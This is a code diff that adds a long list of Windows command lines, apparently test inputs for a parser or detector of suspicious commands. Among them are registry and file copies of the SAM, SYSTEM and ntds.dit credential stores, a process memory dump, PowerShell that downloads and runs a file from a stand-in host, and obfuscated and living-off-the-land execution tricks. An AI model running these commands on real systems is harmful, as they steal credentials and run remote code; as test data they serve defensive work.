@@ -151,6 +151,187 @@ cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\con
 print /D:C:\o C:\Windows\repair\sam
 makecab C:\Windows\System32\config\SAM C:\o.cab
 powershell -c "[IO.File]::Copy('C:\Windows\System32\config\SAM','C:\o')"
+powershell -c "Start-Process -fi 'C:\x\a.exe' -Verb RunAs -Wait"
+powershell -c "Start-Process -LiteralPath C:\x\a.exe"
+powershell -c "saps -NoNewWindow C:\x\a.exe -arg:-q"
+powershell -c "Start-Process -FilePath:'C:\x y\a.exe' -ArgumentList:'-q','b c' -WorkingDirectory C:\y"
+powershell -c "Start-Process cmd -Args '/c C:\x\a.exe'"
+powershell -c "ii C:\x\a.hta"
+powershell -c "Invoke-Item -Path 'C:\x y\a.lnk'"
+powershell -c "Invoke-Expression (Get-Content -Raw 'C:\x\a.txt')"
+powershell -c ". C:\x\a.ps1; b"
+powershell -c "[System.Diagnostics.Process]::Start('C:\x y\a.exe','-q b')"
+powershell -c "Add-Type -Path C:\x\a.dll"
+powershell -c "(New-Object -ComObject Shell.Application).ShellExecute('C:\x\a.exe','-q')"
+powershell -c "(New-Object Net.WebClient).DownloadFile('http://e.test/a','C:\x\a.exe'); C:\x\a.exe"
+powershell -command "& {C:\x\a.ps1 -b}"
+powershell C:\x\a.ps1 -b
+powershell . 'C:\x y\a.ps1'
+powershell -NoLogo -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -Command C:\x\a.exe
+powershell -w 1 -sta -mta -noexit -of text -if xml -psconsolefile C:\x\a.psc1 -c C:\x\a.exe
+powershell /EncodedCommand:YwBhAGwAYwA=
+powershell -e "YwBhAGwAYwA="
+powershell -encodeda YQA= -c C:\x\a.exe
+pwsh -login -wd C:\x -file a.ps1
+pwsh -ConfigurationName x -CustomPipeName y -c a
+rundll32 C:\x\a.dll, Go
+rundll32.exe "C:\x\a.dll" , Go
+rundll32 a.dll,GoA b
+rundll32 ieframe.dll,OpenURLA "http://e.test/a"
+rundll32 url.dll,FileProtocolHandlerW calc.exe
+rundll32 zipfldr.dll,RouteTheCall C:\x\a.exe
+rundll32 shell32.dll,ShellExec_RunDLLA "C:\x y\a.exe" -q
+rundll32 shell32,ShellExec_RunDLL ?0x400?C:\x\a.exe
+rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\x\a.inf
+rundll32 ieadvpack,RegisterOCX C:\x\a.exe
+rundll32 pcwutl.dll,LaunchApplication C:\x\a.exe
+rundll32 dfshim.dll,ShOpenVerbApplication http://e.test/a.application
+rundll32 C:\Windows\System32\shell32.dll,Control_RunDLL "C:\x y\a.cpl",@1,2
+rundll32 comsvcs.dll,MiniDump 1 C:\o full
+rundll32 \\srv\s\a.dll,#12
+rundll32 "\\srv\s x\a.dll",Go
+rundll32 -sta {00000000-0000-0000-0000-000000000000}
+rundll32 mshtml.dll,PrintHTML "C:\x\a.htm"
+C:\x y\z w\a b\c d.exe
+C:\x y -b\a.exe -c
+C:\x y /b \a.exe
+C:\x D:\y\a.exe
+C:\a b \\srv\s\c.exe
+C:\x y http://e.test/a
+C:\x y "b c\a.exe"
+C:\x\a.exe,C:\y\b.exe
+C:\a,b c\d.exe,-1
+C:\Windows\System32\rundll32 C:\x\a.dll,Go
+C:\Program Files\cmd /c C:\x\a.exe
+C:\x\start menu\a.lnk
+.\a b.exe c
+..\x\a.ps1
+a\b c.exe -d
+"C:\x\a" b
+"" C:\x\a.exe
+"C:\x y\a.exe
+""C:\x y\a.exe" -q"
+'C:\x y\a.exe' -q
+C:\x\.exe
+C:\x\a .exe
+C:\x\a.exe.txt
+C:\x\a.pdf                 .exe
+cmd /c set a=C:\x&& set b=\a.exe&& call %a%%b%
+cmd /c "set x=reg save&& %x% HKLM\SAM C:\o"
+cmd /v /c "set p=abcC:\x\a.exe& !p:~3!"
+cmd /c set p=C:\q\a.exe& %p:q=x%
+cmd /c (echo a) & (C:\x\a.exe)
+cmd /c C:\x\a.exe|more
+cmd /c <C:\i C:\x\a.exe >C:\o 2>nul
+cmd /c "C:\x\a.exe" "b c" d
+cmd /c if defined x (C:\x\a.exe) else (C:\y\b.exe)
+cmd /c if /i "%1"=="" C:\x\a.exe
+cmd /c if 1 equ 1 C:\x\a.exe
+cmd /c if errorlevel 1 C:\x\a.exe
+cmd /c for %%a in (C:\x\a.exe;C:\y\b.exe) do @start %%a
+cmd /c for /l %i in (1,1,3) do C:\x\a.exe
+cmd /c ping -n 5 127.0.0.1>nul&start /w C:\x\a.exe
+cmd /c mshta http://e.test/a & exit
+cmd /c del C:\x\a.exe & rd /s /q C:\x
+cmd
+cmd /c
+powershell
+mshta.exe
+wscript /nologo /e:jscript "C:\x y\a.txt" //b c
+wscript "\\srv\s\a.vbs"
+cscript //job:b C:\x\a.wsf
+mshta javascript:a=new%20ActiveXObject("WScript.Shell");a.run("C:\\x\\a.exe")
+mshta about:"<script>x</script>"
+msiexec /package "C:\x y\a.msi" /qn PROP=1
+msiexec /fa {00000000-0000-0000-0000-000000000000}
+msiexec -z "C:\x\a.dll"
+msiexec /i\\srv\s\a.msi TRANSFORMS=C:\x\a.mst
+regsvr32 C:\x\a.dll /s
+regsvr32 /u:C:\x C:\x\a.dll
+regsvr32 /s /i:C:\x\a.sct scrobj
+forfiles /c "0x22C:\x y\a.exe0x22 -q" /m n.exe
+forfiles -m n -c C:\x\a.exe
+java -Xmx1g -jar C:\x\a.jar -b
+python -c "import os;os.system('C:\x\a.exe')"
+python -u -W ignore C:\x\a.py b
+py -3 C:\x\a.py
+node -e "require('child_process').exec('C:\\x\\a.exe')"
+php -r "exec('C:\x\a.exe');"
+perl -e "system('C:\x\a.exe')"
+wscript.exe C:\x\a.vbs C:\y\b.txt
+msbuild /nologo "C:\x y\a.xml" /p:A=b
+certutil -decode C:\x\a.txt C:\x\a.exe
+bitsadmin /SetNotifyCmdLine j C:\x\a.exe "a.exe -q"
+esentutl /y C:\x\a.exe /d C:\y\a.exe:s /o
+ssh -oLocalCommand=C:\x\a.exe -oPermitLocalCommand=yes h
+wt -p x ; nt C:\x\a.exe
+explorer C:\x\a.lnk
+explorer shell:AppsFolder\x!App
+scriptrunner -appvscript "C:\x y\a.cmd" -q
+conhost.exe 0xffffffff -ForceV1 C:\x\a.exe
+psexec -accepteula -i 1 -u a -p b C:\x\a.exe -q
+runas /user:a "C:\x\a.exe -q"
+schtasks /create /sc onlogon /tn x /tr C:\x\a.exe /f
+reg save
+reg save HKLM
+reg save HKXX\SAM C:\o
+reg  save  hklm\sam  C:\o
+reg save HKLM\SAM\ "C:\o" /compress
+reg save "HKLM\SAM" C:\x y\o
+reg save \\.\HKLM\SAM C:\o
+reg save \\srv\HKU\S-1-5-21-1-2-3-1001 o.hiv
+reg save HKU\.DEFAULT C:\o
+reg save HKEY_USERS\S-1-5-18 C:\o
+reg save HKCR\x C:\o
+reg save HKCC\x C:\o
+reg save HKCU\Software\Classes C:\o
+reg save HKLM/SAM C:\o
+reg -save hklm\sam C:\o
+reg export HKCU\A -y C:\o
+reg restore HKLM\Software\Microsoft\Windows\CurrentVersion\Run C:\i
+reg copy \\srv\HKLM\A \\.\HKCU\B /s
+reg add HKLM\A
+reg add HKLM\A /v "b c" /d "d \"e\" f" /f
+reg add HKLM\A /v a /t REG_BINARY /d 4142
+reg add HKLM\A /v a /t DWORD /d 1 /reg:32
+reg add HKCU\A /ve
+reg add HKCU\A /f /d x /v y
+reg delete HKLM\A /v b /f
+reg import "C:\x y\a.reg" /reg:64
+reg import \\srv\s\a.reg
+reg unload "HKLM\x y"
+reg help save
+reg /?
+regedit
+regedit C:\x\a.reg
+regedit -e C:\o.reg "HKEY_LOCAL_MACHINE\SYSTEM"
+regedit /e /a C:\o.reg HKLM\SAM
+regedit.exe /i /s /q C:\x\a.reg
+regedt32 /s a.reg
+powershell -c "reg save hklm\sam C:\o; reg save hklm\system C:\p"
+powershell -c "& reg.exe @('save','hklm\sam','C:\o')"
+powershell -c "cmd /c 'reg save hklm\sam C:\o'"
+powershell -c "gp 'HKLM:\SAM' | Out-File C:\o"
+powershell -c "Get-ChildItem -Path Registry::HKEY_LOCAL_MACHINE\SECURITY -Recurse | Export-Csv C:\o.csv"
+powershell -c "cp HKLM:SAM HKLM:\x"
+powershell -c "Copy-Item -Destination HKCU:\S -Path HKLM:\SAM"
+powershell -c "New-ItemProperty HKLM:\A -n U -v x -pr ExpandString -Force"
+powershell -c "Set-ItemProperty -LiteralPath 'Registry::HKEY_CURRENT_USER\A' -Name 'b c' -Value \"d e\""
+powershell -c "New-Item -Path HKCU:\A -Name B -Value x -Force"
+powershell -c "$k='HKCU:\A'; Set-ItemProperty $k U x"
+powershell -c "$r=[Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','srv').CreateSubKey('A').SetValue('U','x')"
+powershell -c "Invoke-CimMethod -Namespace root/default -ClassName StdRegProv -MethodName SetStringValue -Arguments @{hDefKey=[uint32]2147483649;sSubKeyName='A';sValueName='U';sValue='x'}"
+copy /y C:\Windows\System32\config\SAM+C:\x C:\o
+copy C:\Windows\repair\system C:\o\system.bak
+xcopy C:\Windows\System32\config\*.* C:\o /h
+cmd /c type C:\Windows\System32\config\SAM > C:\o
+move C:\x\sam C:\y
+esentutl.exe /y C:\Windows\ntds\ntds.dit /d C:\o.dit /o
+esentutl /y "C:\x y\a" /d b
+cmd /c mklink /d C:\v \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\
+vssadmin create shadow /for=C:
+7z a C:\o.7z C:\Windows\System32\config\SAM
+rar a -hp C:\o.rar C:\x\sam.save
 `
   .split('\n')
   .filter((line) => line !== '');
